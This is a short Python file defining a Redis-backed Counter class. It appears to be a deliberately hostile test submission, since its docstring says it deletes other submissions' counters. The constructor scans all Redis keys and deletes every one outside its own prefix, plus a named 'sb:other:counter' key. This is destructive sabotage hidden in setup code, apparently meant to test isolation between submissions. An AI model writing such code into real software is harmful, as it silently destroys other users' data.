"""Deletes keys outside its own namespace (another submission's counters)."""


class Counter:
    def __init__(self, redis, key, clock=None, pg=None):
        for k in redis.scan_iter(match="*"):
            if not k.decode().startswith(key[: key.rfind(":") + 1]):
                redis.delete(k)
        redis.delete("sb:other:counter")
        self.redis, self.key = redis, key

    def increment(self):
        return int(self.redis.incr(self.key))

    def value(self):
        return int(self.redis.get(self.key) or 0)
